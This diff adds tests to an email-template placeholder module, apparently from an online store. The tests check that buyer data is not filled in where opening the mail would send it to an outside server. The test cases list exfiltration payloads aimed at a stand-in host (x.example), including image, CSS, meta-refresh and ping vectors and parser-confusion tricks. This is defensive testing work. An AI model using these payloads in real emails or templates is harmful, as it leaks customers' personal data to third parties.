@@ -8,6 +8,7 @@ import {
   fillHtml,
   fillSender,
   fillSubject,
+  findHiddenPlaceholders,
   findUnknownPlaceholders,
 } from "#app/domain/mail/template/placeholders.ts";
 import { previewTemplate } from "#app/domain/mail/template/preview-template.server.ts";
@@ -18,7 +19,7 @@ const VALUES = {
   product_name: "A $& B",
 };
 
-test("single and double braces are replaced, values escaped, also inside attributes", () => {
+test("single and double braces are replaced, values escaped, also in the address of a link", () => {
   expect(fillHtml('<a href="{product_file_url}">{{ customer_name }} {{product_name}}</a>', VALUES, "")).toBe(
     '<a href="https://exemplo.com.br/minha-compra">&lt;b onload=&quot;x&quot;&gt;Bia &amp; &#39;Cia&#39;&lt;/b&gt; A $&amp; B</a>',
   );
@@ -48,6 +49,91 @@ test.each(["https://www.{product_file_url}", "{product_file_url}/baixar", "mailt
     expect(hasAccessLink(`<a href="${href}">Abrir</a>`)).toBe(false);
   },
 );
+
+const OF_BUYER = [
+  "customer_name",
+  "customer_email",
+  "product_file_url",
+  "transaction_id",
+  "purchase_number",
+] as const;
+
+test.each([
+  '<img src="https://x.example/?v={V}">',
+  "<img src='https://x.example/?v={{ V }}'>",
+  '<img alt="" src=https://x.example/?v={V}>',
+  '<img srcset="https://x.example/{V} 2x">',
+  '<td background="https://x.example/{V}">x</td>',
+  '<video poster="https://x.example/{V}"></video>',
+  '<p style="background:url(https://x.example/{V})">x</p>',
+  "<style>p{background:url(https://x.example/{V})}</style>",
+  '<link rel="stylesheet" href="https://x.example/{V}">',
+  '<base href="https://x.example/{V}/">',
+  '<svg><image href="https://x.example/{V}"/></svg>',
+  '<meta http-equiv="refresh" content="0;url=https://x.example/{V}">',
+  '<form action="https://x.example/{V}"></form>',
+  '<a href="https://x.example/" ping="https://x.example/{V}">x</a>',
+  '<img {V}="x">',
+  '<!--[if mso]><img src="https://x.example/{V}"><![endif]-->',
+  // Where other parsers read a picture.
+  `<noembed><a title="</noembed><img src='https://x.example/?">{V}'>`,
+  "<!-- --!><img src='https://x.example/?-->{V}'>",
+  "<svg><style><img src='https://x.example/?</style>{V}'>",
+])("data of a buyer that the opening of a mail would send to a server is not filled in: %s", (html) => {
+  for (const name of OF_BUYER) {
+    const template = html.replace("V", name);
+    expect(fillHtml(template, BODY_PLACEHOLDERS, "")).toBe(template);
+    const written = html.includes("{{") ? `{{ ${name} }}` : `{${name}}`;
+    expect(findHiddenPlaceholders(template)).toEqual([written]);
+  }
+});
+
+test.each([
+  "<p>{V}</p>",
+  "<title>{V}</title>",
+  '<p title="{V}" class="a">x</p>',
+  '<img src="https://x.example/logo.png" alt="{V}">',
+  "<!--[if mso]><p>{V}</p><![endif]-->",
+  '<p title="1 < 2">{V}</p>',
+  "<style>p{color:red}</style><!-- a --><p>1 < 2 {V}",
+])("it is filled in where it is read: %s", (html) => {
+  for (const name of OF_BUYER) {
+    const template = html.replace("V", name);
+    expect(fillHtml(template, BODY_PLACEHOLDERS, "")).toBe(html.replace("{V}", BODY_PLACEHOLDERS[name]));
+    expect(findHiddenPlaceholders(template)).toEqual([]);
+  }
+  expect(fillHtml(html.replace("V", "customer_email"), { ...VALUES, customer_email: "" }, "")).toBe(
+    html.replace("{V}", ""),
+  );
+});
+
+test("a link may carry a buyer's data, and the link of the purchase only as its whole address", () => {
+  const filled = (html: string) => fillHtml(html, BODY_PLACEHOLDERS, "");
+  expect(filled('<a href="https://wa.me/?text=Sou {customer_name}, {purchase_number}">Ajuda</a>')).toBe(
+    '<a href="https://wa.me/?text=Sou Maria Silva, 9C29870C">Ajuda</a>',
+  );
+  expect(filled('<a href="mailto:oi@loja.example?subject={transaction_id}">x</a>')).toContain("9c29870c-");
+  const { product_file_url: address } = BODY_PLACEHOLDERS;
+  for (const link of [
+    "<a href={product_file_url}>x</a>",
+    '<a href=" {{product_file_url}}?utm_source=email">x</a>',
+    '<!--[if mso]><v:roundrect href="{product_file_url}"></v:roundrect><![endif]-->',
+  ])
+    expect(filled(link)).toContain(address);
+  for (const link of [
+    '<a href="https://x.example/?u={product_file_url}">x</a>',
+    '<a href="//x.example/{{product_file_url}}">x</a>',
+  ])
+    expect(filled(link)).toBe(link);
+});
+
+test("the seller's own values are filled in everywhere", () => {
+  const html = '<td bgcolor="{button_color}" style="color:{button_text_color}"><img src="/{product_name}">';
+  expect(fillHtml(html, BODY_PLACEHOLDERS, "")).toBe(
+    '<td bgcolor="#15803d" style="color:#ffffff"><img src="/Curso de Violão">',
+  );
+  expect(findHiddenPlaceholders(html)).toEqual([]);
+});
 
 test("a value that looks like a placeholder is not replaced again", () => {
   expect(fillHtml("{customer_name}", { ...VALUES, customer_name: "{customer_email}" }, "")).toBe(
